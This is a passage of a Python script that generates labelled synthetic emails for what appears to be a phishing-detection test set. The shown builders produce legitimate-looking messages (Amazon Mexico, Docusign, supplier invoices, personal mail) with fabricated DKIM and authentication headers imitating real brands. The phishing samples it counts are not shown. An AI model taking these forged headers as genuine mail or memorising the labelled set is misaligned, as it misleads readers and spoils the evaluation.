    frm = "latampass@info.latam.com"
    uid = "21847730"
    envfrom = f"bounces+{uid}-{hx(seed + 'e', 4)}-{rcpt.replace('@', '=')}@em.info.latam.com"
    click = lambda n: f"https://link.info.latam.com/ls/click?upn=u001.{b64url(seed + 'c' + n, 150)}"  # noqa: E731
    ip = "167.89.101.12"
    ptr = "o1.ptr3381.info.latam.com"
    sender = "\n".join([
        dkim("info.latam.com", "s1", t, "content-type:from:mime-version:subject:list-unsubscribe:list-unsubscribe-post:"
             "to:cc:content-type:from:subject:to", seed + "1"),
        f"Received: by recvd-{hx(seed + 'rv', 10)}-{aln(seed + 'rw', 5, 'abcdefghijklmnopqrstuvwxyz0123456789')} with SMTP id "
        f"recvd-{hx(seed + 'rv', 10)}-{aln(seed + 'rw', 5, 'abcdefghijklmnopqrstuvwxyz0123456789')}-1-{hx(seed + 'rx', 8, True)}-{int(hx(seed, 2), 16)}\n"
        f"        {t - timedelta(seconds=2):%Y-%m-%d %H:%M:%S}.{digits(seed + 'ns', 9)} +0000 UTC m=+{digits(seed + 'mm', 7)}.{digits(seed + 'mn', 9)}",
        f"Date: {rfc(t - timedelta(seconds=3))} (UTC)",
        f"From: {addr('LATAM Pass', frm)}",
        f"Subject: {ew('Andrea, tu estado de cuenta LATAM Pass de septiembre ya está disponible')}",
        f"List-Unsubscribe: <{click('u')}>",
        "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
        f"To: {rcpt}",
        f"Message-ID: <{b64url(seed + 'mid', 22)}@geopod-ismtpd-{int(hx(seed + 'g', 2), 16) % 40}>",
        "MIME-Version: 1.0",
        fold(f"X-SG-EID: u001.{b64(seed + 'eid', 200)}", 78, " ", split_long=True),
        f"X-Entity-ID: u001.{b64(seed + 'ent', 24)}==",
    ])
    html = html_page(f"""<body style="margin:0;background:#f0f0f0">
<table width="100%" cellpadding="0" cellspacing="0" style="font-family:'Trebuchet MS',Arial,sans-serif"><tr><td align="center" style="padding:16px 0">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff">
<tr><td style="background:#1b0088;padding:18px 24px"><img src="https://s.latamairlines.com/images/email/latam-pass-logo-white.png" width="140" height="32" alt="LATAM Pass"></td></tr>
<tr><td style="padding:24px;font-size:20px;color:#1b0088;font-weight:bold">Hola Andrea, este es tu resumen de septiembre</td></tr>
<tr><td style="padding:0 24px;font-size:14px;color:#303030;line-height:22px">
<table width="100%" cellpadding="8" style="font-size:14px;border:1px solid #e6e6e6">
<tr><td>Millas disponibles al 30/09/2025</td><td align="right"><b>18.642</b></td></tr>
<tr><td>Millas acumuladas en el mes</td><td align="right">+1.208</td></tr>
<tr><td>Millas por vencer (31/12/2025)</td><td align="right">2.150</td></tr>
<tr><td>Categoría</td><td align="right">LATAM Pass Gold</td></tr>
</table>
<p>Revisa el detalle de tus movimientos y descubre cómo usar tus millas en vuelos, upgrades y productos.</p>
</td></tr>
<tr><td style="padding:16px 24px 26px 24px"><a href="{click('1')}" style="background:#e8114b;color:#ffffff;padding:12px 28px;border-radius:24px;text-decoration:none;font-weight:bold">Ver mi estado de cuenta</a></td></tr>
<tr><td style="padding:16px 24px;font-size:10px;color:#888;background:#f6f6f6">LATAM Pass nunca te pedirá pagar tasas o ingresar datos de tarjeta por correo para canjear millas.
Recibes este correo porque eres socio LATAM Pass. <a href="{click('u')}" style="color:#888">Cancelar suscripción</a> | LATAM Airlines Group S.A., Santiago, Chile.</td></tr>
</table></td></tr></table>
<img src="https://link.info.latam.com/wf/open?upn=u001.{b64url(seed + 'op', 110)}" alt="" width="1" height="1" border="0">
</body>""", lang="es")
    headers = gmail_in(seed, t, rcpt, ip, ptr,
                       Auth(envfrom, "pass", "info.latam.com", "pass", "info.latam.com", "pass", "s1",
                            policy_="p=REJECT sp=REJECT dis=NONE"), sender)
    add("b35-legit-latampass-estado-cuenta", "legit", "bulk",
        "Genuine LATAM Pass monthly miles statement sent through SendGrid with info.latam.com authenticated (DMARC "
        "pass), SendGrid link branding and one-click unsubscribe",
        headers, text(html, "html"))


def l20():
    seed = "l20"
    t = at(2024, 7, 25, 19, 44, 6)
    rcpt = "sofia.herrera.mx@outlook.com"
    frm = "confirmar-envio@amazon.com.mx"
    ses_id = f"0101019{hx(seed + 's1', 9)}-{guid(seed + 's2')}-000000"
    envfrom = f"{t:%Y%m%d%H%M%S}{hx(seed + 'bb', 16)}@bounces.amazon.com.mx"
    ip = "54.240.13.64"
    ptr = "a13-64.smtp-out.amazonses.com"
    order = f"701-{digits(seed + 'o1', 7)}-{digits(seed + 'o2', 7)}"
    sender = "\n".join([
        dkim("amazon.com.mx", "3bdh4ce7cmmgp4ejjfjgoyj6epyotkpb", t,
             "Date:From:To:Message-ID:Subject:MIME-Version:Content-Type", seed + "1"),
        dkim("amazonses.com", "7v7vs6w47njt4pimodk5mmttbegzsi6n", t,
             "Date:From:To:Message-ID:Subject:MIME-Version:Content-Type:Feedback-ID", seed + "2", bits=1024),
        f"Date: {rfc(t - timedelta(seconds=1))}",
        f"From: {addr('Amazon.com.mx', frm)}",
        f"To: {rcpt}",
        f"Message-ID: <{ses_id}@email.amazonses.com>",
        f"Subject: {ew('Tu pedido de “Audífonos inalámbricos Sony WH-CH520...” ha sido enviado')}",
        "MIME-Version: 1.0",
        f"Feedback-ID: ::1.us-east-1.{b64(seed + 'fb', 43)}=:AmazonSES",
        f"X-SES-Outgoing: {t:%Y.%m.%d}-{ip}",
        "Bounces-to: " + envfrom,
        "X-AMAZON-MAIL-RELAY-TYPE: notification",
        f"X-AMAZON-RTE-VERSION: 2.0",
    ])
    link = f"https://www.amazon.com.mx/gp/css/shiptrack/view.html?orderID={order}&ref_=pe_mx_ship"
    html = html_page(f"""<body style="margin:0;background:#ffffff;font-family:'Amazon Ember',Arial,sans-serif;color:#0f1111">
<table width="600" align="center" cellpadding="0" cellspacing="0">
<tr><td style="padding:14px 16px;border-bottom:1px solid #ddd"><img src="https://m.media-amazon.com/images/G/33/x-locale/common/amazon-logo-mx.png" width="100" height="30" alt="amazon.com.mx"></td></tr>
<tr><td style="padding:20px 16px;font-size:22px">¡Tu paquete va en camino!</td></tr>
<tr><td style="padding:0 16px;font-size:14px;line-height:21px">
<p>Hola Sofía,</p>
<p>Tu paquete será entregado por <b>Amazon Logistics</b>. Llegada estimada: <b>sábado 27 de julio</b>.</p>
<p>Pedido <a href="https://www.amazon.com.mx/gp/your-account/order-details?orderID={order}" style="color:#007185">#{order}</a></p>
<table cellpadding="6" style="font-size:14px;border:1px solid #eee;width:100%"><tr>
<td width="80"><img src="https://m.media-amazon.com/images/I/41lArSiD5hL._SS142_.jpg" width="70" height="70" alt=""></td>
<td>Audífonos inalámbricos Sony WH-CH520, Bluetooth, hasta 50 horas de batería - Negro<br>Cantidad: 1</td></tr></table>
<p style="padding:12px 0"><a href="{link}" style="background:#ffd814;color:#0f1111;padding:10px 24px;border-radius:20px;text-decoration:none">Rastrear paquete</a></p>
</td></tr>
<tr><td style="padding:14px 16px;font-size:11px;color:#565959;border-top:1px solid #ddd">Este correo electrónico se envió desde una dirección de solo notificación que no puede recibir correos electrónicos. &copy; 2024 Amazon.com, Inc. o sus afiliados. Amazon México Servicios, S. de R.L. de C.V.</td></tr>
</table>
</body>""", lang="es-MX")
    plain = f"""¡Tu paquete va en camino!

Hola Sofía,

Tu paquete será entregado por Amazon Logistics. Llegada estimada: sábado 27 de julio.
Pedido #{order}

Audífonos inalámbricos Sony WH-CH520 - Cantidad: 1

Rastrear paquete: {link}
"""
    headers = outlook_in(seed, t, rcpt, ip, ptr, ptr,
                         Auth(envfrom, "pass", "amazon.com.mx", "pass", "amazon.com.mx", "pass",
                              "3bdh4ce7cmmgp4ejjfjgoyj6epyotkpb"), sender, lang="es")
    add("b35-legit-amazon-mx-enviado", "legit", "bulk",
        "Genuine Amazon.com.mx shipment notice from confirmar-envio@amazon.com.mx via SES with amazon.com.mx DKIM and "
        "MAIL FROM (DMARC pass), order number and links only to amazon.com.mx",
        headers, alt(plain, html, f"----=_Part_{digits(seed + 'p', 8)}_{digits(seed + 'q', 9)}.{epoch(t)}{digits(seed + 'r', 3)}"))


def l21():
    seed = "l21"
    t = at(2025, 7, 9, 15, 11, 52)
    rcpt = "dmorris@hartwell-logistics.com"
    frm = "dse_NA4@docusign.net"
    ip = "64.207.219.136"
    ptr = "mail136.na4.docusign.net"
    env = guid(seed + "env")
    link = (f"https://na4.docusign.net/Signing/EmailStart.aspx?a={guid(seed + 'a')}&etti=24&acct={guid(seed + 'acct')}"
            f"&er={guid(seed + 'er')}")
    sender = "\n".join([
        dkim("docusign.net", "mail-na4", t, "From:Reply-To:To:Subject:Date:Message-ID:MIME-Version:Content-Type", seed),
        f"Received: from docusign.net (10.221.{digits(seed + 'a', 2)}.{digits(seed + 'b', 2)}) by mail136.na4.docusign.net; {rfc(t - timedelta(seconds=1), -420)}",
        f"From: {addr('Rebecca Lin via Docusign', frm)}",
        f"Reply-To: {addr('Rebecca Lin', 'rlin@northwind-packaging.com')}",
        f"To: {addr('Dana Morris', rcpt)}",
        "Subject: Complete with Docusign: Hartwell_Northwind_MSA_2025-2027.pdf",
        f"Date: {rfc(t - timedelta(seconds=1), -420)}",
        f"Message-ID: <{hx(seed + 'm', 32)}@docusign.net>",
        "MIME-Version: 1.0",
        f"X-DocuSign-Envelope-Id: {env}",
        "X-Api-Host: na4.docusign.net",
    ])
    html = html_page(f"""<body style="margin:0;background:#eaeaea">
<table width="100%" cellpadding="0" cellspacing="0" style="background:#eaeaea;font-family:Helvetica,Arial,sans-serif"><tr><td align="center" style="padding:20px 0">
<table width="640" cellpadding="0" cellspacing="0" style="background:#ffffff">
<tr><td style="padding:10px 24px"><img src="https://docucdn-a.akamaihd.net/olive/images/2.102.0/global-assets/email-templates/email-logo.png" width="116" height="34" alt="Docusign"></td></tr>
<tr><td style="background:#1e4ca1;padding:30px 24px;text-align:center;color:#ffffff">
<img src="https://docucdn-a.akamaihd.net/olive/images/2.102.0/global-assets/email-templates/icon-document.png" width="75" height="75" alt="">
<p style="font-size:16px;margin:16px 0">Rebecca Lin sent you a document to review and sign.</p>
<p style="margin:20px 0 0 0"><a href="{link}" style="background:#ffc423;color:#333333;font-size:15px;font-weight:bold;padding:12px 24px;text-decoration:none;border-radius:2px">REVIEW DOCUMENT</a></p>
</td></tr>
<tr><td style="padding:24px;font-size:15px;color:#333;line-height:22px">
<p><b>Rebecca Lin</b><br><a href="mailto:rlin@northwind-packaging.com" style="color:#2463d1">rlin@northwind-packaging.com</a></p>
<p>Hi Dana, here is the renewed MSA with the pricing schedule we agreed on the call. Legal has already signed on our side. Thanks, Rebecca</p>
</td></tr>
<tr><td style="padding:20px 24px;background:#eaeaea;font-size:11px;color:#666;line-height:16px">
<b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.<br><br>
<b>Alternate Signing Method</b><br>Visit Docusign.com, click 'Access Documents', and enter the security code: {hx(seed + 'sc', 32, True)}4<br><br>
<b>About Docusign</b><br>Sign documents electronically in just minutes. It's safe, secure, and legally binding. Whether you're in an office, at home, on-the-go -- or even across the globe -- Docusign provides a professional trusted solution for Digital Transaction Management&trade;.<br><br>
<b>Questions about the Document?</b><br>If you need to modify the document or have questions about the details in the document, please reach out to the sender by emailing them directly.<br><br>
This message was sent to you by Rebecca Lin who is using the Docusign Electronic Signature Service.</td></tr>
</table></td></tr></table>
</body>""")
    plain = f"""Rebecca Lin sent you a document to review and sign.

REVIEW DOCUMENT: {link}

Rebecca Lin
rlin@northwind-packaging.com

Hi Dana, here is the renewed MSA with the pricing schedule we agreed on the call. Legal has already signed on our side. Thanks, Rebecca

Do Not Share This Email
This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.

Alternate Signing Method
Visit Docusign.com, click 'Access Documents', and enter the security code: {hx(seed + 'sc', 32, True)}4
"""
    headers = outlook_in(seed, t, rcpt, ip, ptr, ptr,
                         Auth(frm, "pass", "docusign.net", "pass", "docusign.net", "pass", "mail-na4"),
                         sender, tenant="hartwell")
    add("b35-legit-docusign-msa", "legit", "clean",
        "Genuine Docusign envelope from a known supplier contact (dse_NA4@docusign.net, Reply-To her corporate address, "
        "auth passes) for an expected MSA renewal, link to na4.docusign.net",
        headers, alt(plain, html, f"----=_Part_{digits(seed + 'p', 8)}_{digits(seed + 'q', 9)}.{epoch(t)}{digits(seed + 'r', 3)}"))


def l22():
    seed = "l22"
    t = at(2025, 10, 14, 17, 2, 46)
    rcpt = "ap@hartwell-logistics.com"
    frm = "cmunoz@midwestpallet.com"
    ip = "40.107.236.50"
    ptr = "mail-bn8nam12on2050.outbound.protection.outlook.com"
    mbx = f"IA1PR15MB{digits(seed + 'mb', 4)}.namprd15.prod.outlook.com"
    letter = pdf_doc([
        "MIDWEST PALLET CO.",
        "2200 Rail Yard Road, Toledo, OH 43612 | (419) 726-3300",
        "",
        "October 14, 2025",
        "",
        "To our valued customers,",
        "",
        "As part of our transition to a new treasury provider, Midwest Pallet Co. will receive",
        "payments at Fifth Third Bank starting November 1, 2025. Payments sent to our current",
        "account at Huntington will continue to be accepted until December 31, 2025.",
        "",
        "New remittance details will be provided by phone only. Please call our Controller,",
        "Greg Halvorsen, at the number on your existing vendor file to confirm the change.",
        "We will never ask you to change our banking details by email alone.",
        "",
        "Thank you for your continued business.",
        "",
        "Greg Halvorsen, Controller",
    ], "Banking transition notice", "20251014120500-04'00'")
    sender = "\n".join([
        dkim("midwestpallet.com", "selector1", t, "From:Date:Subject:Message-ID:Content-Type:MIME-Version:"
             "X-MS-Exchange-SenderADCheck", seed),
        fold(f"Received: from {mbx} (2603:10b6:208:3c4::11) by {mbx.replace('IA1PR15MB', 'DM4PR15MB')} with Microsoft SMTP "
             f"Server (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {exch_build(t)}; {rfc(t - timedelta(seconds=1))}"),
        f"From: {addr('Carla Muñoz', frm)}",
        f"To: {addr('Accounts Payable', rcpt)}",
        f"Subject: {ew('Midwest Pallet Co. – banking transition notice (please verify by phone)')}",
        f"Thread-Topic: {ew('Midwest Pallet Co. – banking transition notice (please verify by phone)')}",
        f"Thread-Index: {b64(seed + 'ti', 24)}",
        f"Date: {rfc(t - timedelta(seconds=2))}",
        f"Message-ID: {exchange_mid(seed, mbx)}",
        "Accept-Language: en-US",
        "Content-Language: en-US",
        "X-MS-Has-Attach: yes",
        "X-MS-TNEF-Correlator: ",
        "MIME-Version: 1.0",
    ])
    plain = """Hello Hartwell AP team,

Please see the attached notice about our banking transition. In short:

- Starting November 1 we will receive payments at a new bank.
- Payments to our current account will still be accepted through December 31, so nothing needs to change
  on your open invoices right now.
- We are NOT sending the new account numbers by email. Please call Greg Halvorsen, our Controller, at the
  phone number you already have on file for us, and he will confirm the details verbally, per your vendor
  change procedure.

If you receive any email asking you to pay Midwest Pallet to a different account without a phone
confirmation, please treat it as fraud and let us know.

Thanks,

Carla Muñoz
Accounts Receivable | Midwest Pallet Co.
2200 Rail Yard Road, Toledo, OH 43612
"""
    html = html_page("<body><div style=\"font-family:Aptos,Calibri,Arial,sans-serif;font-size:11pt\">"
                     + plain.replace("&", "&amp;").replace("\n", "<br>\n") + "</div></body>")
    body = Multi("mixed", f"_004_{mbx.split('.')[0]}{hx(seed + 'b1', 16, True)}namp_", [
        Multi("alternative", f"_000_{mbx.split('.')[0]}{hx(seed + 'b2', 16, True)}namp_",
              [text(plain, "plain", "quoted-printable", "utf-8"), text(html, "html", "quoted-printable", "utf-8")]),
        attachment("application/pdf", "Midwest_Pallet_Banking_Transition_Notice.pdf", letter),
    ])
    headers = outlook_in(seed, t, rcpt, ip, ptr, ptr,
                         Auth(frm, "pass", "midwestpallet.com", "pass", "midwestpallet.com", "pass", "selector1"),
                         sender, tenant="hartwell")
    add("b35-legit-supplier-bank-transition", "legit", "clean",
        "Genuine supplier notice of a banking transition from its own Microsoft 365 domain (auth passes): no account "
        "numbers in the mail, old account still valid, explicitly asks AP to verify by phone using the number on file",
        headers, body)


def l23():
    seed = "l23"
    t = at(2025, 2, 12, 17, 38, 20)
    rcpt = "compras@ferreteradelbajio.com.mx"
    frm = "facturacion@herrajesleon.com.mx"
    host = "mail-sor-f41.google.com"
    folio = "FHL-10482"
    uuid = guid(seed + "uuid").upper()
    xml = f"""<?xml version="1.0" encoding="UTF-8"?>
<cfdi:Comprobante xmlns:cfdi="http://www.sat.gob.mx/cfd/4" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:tfd="http://www.sat.gob.mx/TimbreFiscalDigital" xsi:schemaLocation="http://www.sat.gob.mx/cfd/4 http://www.sat.gob.mx/sitio_internet/cfd/4/cfdv40.xsd" Version="4.0" Serie="FHL" Folio="10482" Fecha="2025-02-12T11:31:04" FormaPago="99" NoCertificado="00001000000712345678" SubTotal="18450.00" Moneda="MXN" Total="21402.00" TipoDeComprobante="I" Exportacion="01" MetodoPago="PPD" LugarExpedicion="37270">
  <cfdi:Emisor Rfc="DHL980615AB3" Nombre="DISTRIBUIDORA DE HERRAJES LEON" RegimenFiscal="601"/>
  <cfdi:Receptor Rfc="FBA061115KQ7" Nombre="FERRETERA DEL BAJIO" DomicilioFiscalReceptor="37530" RegimenFiscalReceptor="601" UsoCFDI="G01"/>
  <cfdi:Conceptos>
    <cfdi:Concepto ClaveProdServ="31162800" NoIdentificacion="BIS-35-INOX" Cantidad="300" ClaveUnidad="H87" Unidad="Pieza" Descripcion="Bisagra de acero inoxidable 3.5 pulg" ValorUnitario="38.50" Importe="11550.00" ObjetoImp="02"/>
    <cfdi:Concepto ClaveProdServ="31162800" NoIdentificacion="JAL-128-NQ" Cantidad="600" ClaveUnidad="H87" Unidad="Pieza" Descripcion="Jaladera niquelada 128 mm" ValorUnitario="11.50" Importe="6900.00" ObjetoImp="02"/>
  </cfdi:Conceptos>
  <cfdi:Impuestos TotalImpuestosTrasladados="2952.00"/>
  <cfdi:Complemento>
    <tfd:TimbreFiscalDigital Version="1.1" UUID="{uuid}" FechaTimbrado="2025-02-12T11:31:09" RfcProvCertif="SAT970701NN3" NoCertificadoSAT="00001000000705250068" SelloCFD="{b64(seed + 'sello', 80)}" SelloSAT="{b64(seed + 'sat', 80)}"/>
  </cfdi:Complemento>
</cfdi:Comprobante>
"""
    pdf = pdf_doc([
        "DISTRIBUIDORA DE HERRAJES LEON S.A. DE C.V.    RFC DHL980615AB3",
        "Blvd. Hilario Medina 1820, Leon, Gto. C.P. 37270",
        "",
        f"FACTURA {folio}          Fecha: 12/02/2025      CFDI 4.0 - Ingreso",
        f"Folio fiscal (UUID): {uuid}",
        "Cliente: FERRETERA DEL BAJIO - RFC FBA061115KQ7 - Uso CFDI: G01",
        "",
        "Cant.  Clave         Descripcion                           Importe",
        "300    BIS-35-INOX   Bisagra acero inoxidable 3.5 pulg    11,550.00",
        "600    JAL-128-NQ    Jaladera niquelada 128 mm             6,900.00",
        "",
        "Subtotal 18,450.00   IVA 16% 2,952.00   TOTAL 21,402.00 MXN",
        "Metodo de pago: PPD - Pago en parcialidades o diferido. Credito 30 dias.",
        "Pedido del cliente: OC-2025-0147",
        "",
        "Este documento es una representacion impresa de un CFDI.",
    ], f"Factura {folio}", "20250212113110-06'00'")
    sender = "\n".join([
        f"Received: by {host} with SMTP id {hx(seed + 'rid', 16)}sor{digits(seed + 'rs', 7)}{aln(seed + 'rt', 3, 'abcdefghijklmnopqrstuvwxyz')}\n"
        f"        for <{rcpt}>; {pacific(t - timedelta(seconds=1))}",
        dkim("herrajesleon.com.mx", "google", t, "to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:"
             "message-id:reply-to", seed, extra=f" x={epoch(t) + 604800}; darn=ferreteradelbajio.com.mx;"),
        f"X-Gm-Message-State: AOJu0Y{b64(seed + 'gms', 60)}",
        f"X-Google-Smtp-Source: AGHT+I{b64(seed + 'gss2', 84)}",
        "MIME-Version: 1.0",
        f"From: {addr('Facturación Herrajes León', frm)}",
        f"Date: {rfc(t - timedelta(seconds=2), -360)}",
        f"Message-ID: {gmail_mid(seed)}",
        f"Subject: {ew(f'Factura {folio} - OC-2025-0147 - Distribuidora de Herrajes León')}",
        f"To: {addr('Compras Ferretera del Bajío', rcpt)}",
        f"Cc: {addr('Luis Ortega', 'lortega@herrajesleon.com.mx')}",
    ])
    plain = f"""Buenas tardes,

Les compartimos la factura {folio} (CFDI 4.0) correspondiente a su orden de compra OC-2025-0147,
entregada el día de hoy en su almacén de Celaya. Se adjuntan el PDF y el XML.

Total: $21,402.00 MXN, crédito a 30 días. Los datos bancarios para el pago son los mismos de siempre,
registrados en su alta de proveedor.

Cualquier aclaración quedamos a sus órdenes.

Saludos,

Mariana Ríos
Facturación y Cobranza
Distribuidora de Herrajes León, S.A. de C.V.
Tel. 477 763 2110 ext. 104
"""
    html = '<div dir="ltr"><div>' + plain.replace("\n\n", "</div><div><br></div><div>").replace("\n", "<br>") + "</div></div>\n"
    body = Multi("mixed", f"000000000000{hx(seed + 'mx', 12)}", [
        gmail_alt(seed, plain, html),
        attachment("application/pdf", f"{folio}.pdf", pdf),
        attachment("text/xml", f"{folio}.xml", xml.encode()),
    ])
    headers = outlook_in(seed, t, rcpt, "209.85.220.41", host, host,
                         Auth(frm, "pass", "herrajesleon.com.mx", "pass", "herrajesleon.com.mx", "pass", "google"),
                         sender, tenant="bajio", lang="es")
    add("b35-legit-factura-cfdi-proveedor", "legit", "clean",
        "Genuine supplier invoice from a known hardware distributor's Google Workspace (DMARC pass) with the CFDI 4.0 "
        "PDF and XML attached, referencing the customer's purchase order; bank details unchanged",
        headers, body)


def l24():
    seed = "l24"
    t = at(2025, 8, 25, 0, 12, 40)
    rcpt = "marcos.vinicius.rj@hotmail.com"
    frm = "regina.mvsouza@gmail.com"
    host = "mail-qv1-f47.google.com"
    sender = gmail_out(seed, t, host, "Regina Souza", frm, rcpt, ew("Fotos do aniversário da vó"), "hotmail.com")
    plain = """Oi filho,

Seguem as fotos do aniversário da vó no domingo. Ela adorou o bolo que você mandou, ficou
perguntando de você o dia todo. Liga pra ela essa semana, tá?

A do meio ficou a mais bonita, vou mandar imprimir.

Beijos,
Mãe
"""
    html = '<div dir="auto">Oi filho,<div dir="auto"><br></div><div dir="auto">Seguem as fotos do aniversário da vó no domingo. Ela adorou o bolo que você mandou, ficou perguntando de você o dia todo. Liga pra ela essa semana, tá?</div><div dir="auto"><br></div><div dir="auto">A do meio ficou a mais bonita, vou mandar imprimir.</div><div dir="auto"><br></div><div dir="auto">Beijos,</div><div dir="auto">Mãe</div></div>\n'
    body = Multi("mixed", f"000000000000{hx(seed + 'mx', 12)}", [
        gmail_alt(seed, plain, html),
        attachment("image/jpeg", "IMG_20250824_161204.jpg", files.photo_jpeg(24)),
        attachment("image/jpeg", "IMG_20250824_163517.jpg", files.photo_jpeg(25)),
        attachment("image/jpeg", "IMG_20250824_170842.jpg", files.photo_jpeg(26)),
    ])
    headers = outlook_in(seed, t, rcpt, "209.85.219.47", host, host,
                         Auth(frm, "pass", "gmail.com", "pass", "gmail.com", "pass", "20230601"),
                         sender, lang="pt")
    add("b35-legit-familia-fotos", "legit", "clean",
        "Personal message in Portuguese from the recipient's mother's Gmail with three JPEG photos of a family "
        "birthday; no links",
        headers, body)


def l25():
    seed = "l25"
    t = at(2025, 6, 5, 23, 41, 8)
    rcpt = "daniel.okafor@outlook.com"
    frm = "jake.morrison84@gmail.com"
    host = "mail-oa1-f46.google.com"
    prev = f"<SA1P223MB{digits(seed + 'p', 4)}{hx(seed + 'ph', 20, True)}@SA1P223MB{digits(seed + 'p', 4)}.NAMP223.PROD.OUTLOOK.COM>"
    sender = gmail_out(seed, t, host, "Jake Morrison", frm, f"Daniel Okafor <{rcpt}>", "Re: Saturday BBQ?", "outlook.com",
                       extra=[f"In-Reply-To: {prev}", f"References: {prev}"], off=-300)
    plain = """Count us in! Steph will bring her pasta salad and I'll grab a bag of ice on the way.
Is 3 still the plan? Also, does your grill have propane or should I bring the spare tank?

Jake

On Thu, Jun 5, 2025 at 5:02 PM Daniel Okafor <daniel.okafor@outlook.com> wrote:
> Hey man,
>
> We're doing a little BBQ at our place Saturday afternoon, nothing fancy - burgers, some
> suya if I can get the beef in time. Kids are welcome, there's the sprinkler in the back.
> Let me know if you and Steph can make it.
>
> Dan
"""
    html = ('<div dir="ltr">Count us in! Steph will bring her pasta salad and I\'ll grab a bag of ice on the way.<div>'
            "Is 3 still the plan? Also, does your grill have propane or should I bring the spare tank?</div><div><br></div>"
            '<div>Jake</div></div><br><div class="gmail_quote gmail_quote_container"><div dir="ltr" class="gmail_attr">'
            'On Thu, Jun 5, 2025 at 5:02\u202fPM Daniel Okafor &lt;<a href="mailto:daniel.okafor@outlook.com">'
            'daniel.okafor@outlook.com</a>&gt; wrote:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px '
            '0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex"><div class="msg"><div dir="ltr">Hey man,<br><br>'
            "We're doing a little BBQ at our place Saturday afternoon, nothing fancy - burgers, some suya if I can get the "
            "beef in time. Kids are welcome, there's the sprinkler in the back. Let me know if you and Steph can make it.<br>"
            "<br>Dan</div></div></blockquote></div>\n")
    headers = outlook_in(seed, t, rcpt, "209.85.160.46", host, host,
                         Auth(frm, "pass", "gmail.com", "pass", "gmail.com", "pass", "20230601"), sender)
    add("b35-legit-friend-bbq-reply", "legit", "clean",
        "Personal Gmail reply from a friend accepting a Saturday BBQ invitation, with the quoted original from the "
        "recipient's Outlook.com address; no links or attachments",
        headers, gmail_alt(seed, plain, html))


# =============================================================================================
# build
# =============================================================================================

BUILDERS = [a01, a02, a03, a04, a05, a06, a07, a08, a09, a10, a11, a12, a13, a14, a15, a16, a17, a18, a19, a20,
            a21, a22, a23, a24, a25, a26, a27, a28, a29, a30, a31, a32, a33, a34, a35, a36, a37, a38, a39, a40,
            a41, a42, a43, a44, a45, a46, a47, a48, a49, a50,
            l01, l02, l03, l04, l05, l06, l07, l08, l09, l10, l11, l12, l13, l14, l15, l16, l17, l18, l19, l20,
            l21, l22, l23, l24, l25]


def check(raw: bytes, stem: str) -> None:
    for number, line in enumerate(raw.split(b"\n"), 1):
        assert len(line) < 990, f"{stem}: line {number} is {len(line)} bytes"
    msg = BytesParser(policy=policy.default).parsebytes(raw)
    for name in ("From", "To", "Subject", "Date", "Message-ID"):
        assert msg[name] is not None, f"{stem}: missing {name}"
    for name, value in msg.items():
        defects = getattr(value, "defects", ())
        assert not defects, f"{stem}: header {name} defects {defects}"
    for part in msg.walk():
        assert not part.defects, f"{stem}: MIME defects {part.defects} in {part.get_content_type()}"
        if part.is_multipart():
            continue
        payload = part.get_payload(decode=True)
        assert payload is not None, f"{stem}: undecodable {part.get_content_type()}"
        if part.get_content_maintype() == "text":
            part.get_content()


def main() -> None:
    for old in MAIL.glob("*/b35-*.eml"):
        old.unlink()
    ENTRIES.clear()
    for build in BUILDERS:
        build()
    stems = [e[0] for e in ENTRIES]
    assert len(stems) == len(set(stems)), "duplicate stems"
    attacks = [e for e in ENTRIES if e[1] == "phish"]
    legit = [e for e in ENTRIES if e[1] == "legit"]
    assert len(attacks) == 50, len(attacks)
    assert len(legit) == 25, len(legit)
    for stem, kind, cat, _, _ in ENTRIES:
        assert stem.startswith("b35-phish-" if kind == "phish" else "b35-legit-"), stem
        assert cat in (("phishing", "malware") if kind == "phish" else ("clean", "bulk")), (stem, cat)
    lines = []
    for stem, kind, cat, description, raw in ENTRIES:
        check(raw, stem)
        folder = REFILED.get(stem, cat)
        path = MAIL / folder / f"{stem}.eml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(raw)
        lines.append(f"samples/mail/{folder}/{stem}.eml | {folder} | {description}")
    MANIFEST.write_text("\n".join(lines) + "\n", encoding="utf-8")
    counts: dict[str, int] = {}
    for stem, _, cat, _, _ in ENTRIES:
        folder = REFILED.get(stem, cat)
        counts[folder] = counts.get(folder, 0) + 1
    print(f"wrote {len(ENTRIES)} messages ({len(attacks)} attacks, {len(legit)} legitimate): "
          + ", ".join(f"{k}={v}" for k, v in sorted(counts.items())))


if __name__ == "__main__":
    main()
